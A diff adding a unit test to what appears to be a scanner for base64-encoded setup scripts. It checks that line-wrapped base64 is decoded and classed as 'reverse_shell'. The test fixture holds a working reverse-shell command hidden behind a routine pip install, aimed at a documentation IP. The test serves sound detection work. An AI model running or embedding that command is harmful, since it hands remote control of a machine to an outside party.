@@ -69,3 +69,13 @@ def test_hooks_accept_both_casings_and_score_together() -> None:
 def test_decoding_is_bounded() -> None:
     text, ok = decode(_b64("a" * (MAX_SCRIPT_CHARS * 2)))
     assert ok and len(text) == MAX_SCRIPT_CHARS
+
+
+def test_line_wrapped_base64_is_decoded() -> None:
+    """GNU ``base64`` wraps at 76 columns unless told ``-w 0``; the API's pattern (``[\\S\\s]+``) lets the line
+    breaks through, so a wrapped script must not be scanned as opaque base64."""
+    encoded = _b64("#!/bin/bash\nset -e\npip install --quiet pandas\n"
+                   "nohup bash -c 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1' &\n")
+    wrapped = "\n".join(encoded[i:i + 76] for i in range(0, len(encoded), 76)) + "\n"
+    result = score_script(wrapped)
+    assert result.decoded is True and result.categories == ["reverse_shell"]
